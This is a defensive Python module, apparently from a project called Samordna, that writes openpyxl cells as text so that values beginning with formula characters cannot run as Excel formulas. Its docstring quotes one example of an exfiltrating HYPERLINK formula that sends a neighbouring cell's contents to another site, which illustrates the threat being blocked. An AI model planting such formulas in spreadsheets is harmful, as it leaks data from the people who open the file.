"""Writing Excel files: a person's text stays text.

Excel treats a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) as a formula — in openpyxl `=` alone already becomes a live formula. A budget line
labelled `=HYPERLINK("https://…?d="&C2, "Se bilaga")` would then send the neighbouring cell to
another site when a board member or an auditor opens the tables. Every openpyxl writer of
Samordna appends its rows with `append_row`, which writes every string as a text cell (and
marks those that look like formulas with Excel's quote prefix, so editing the cell in Excel
keeps it text). Characters an .xlsx file cannot hold become U+FFFD instead of failing the
download.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_ILLEGAL = {c for c in range(32) if chr(c) not in "\t\n\r"}


def safe_text(text: str) -> str:
    """`text` without the characters an .xlsx file cannot hold (control characters)."""
    if any(ord(c) in _ILLEGAL for c in text):
        return "".join("\ufffd" if ord(c) in _ILLEGAL else c for c in text)
    return text


def text_cell(cell: Cell, text: str) -> Cell:
    """Write `text` into `cell` as text, never as a formula."""
    cell.value = safe_text(text)
    cell.data_type = "s"
    if cell.value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def append_row(ws: Worksheet, values: Iterable[Any]) -> int:
    """Append a row like `ws.append`, every string as a text cell; returns the row number."""
    values = list(values)
    ws.append([safe_text(v) if isinstance(v, str) else v for v in values])
    row = ws.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            text_cell(ws.cell(row=row, column=column), value)
    return row
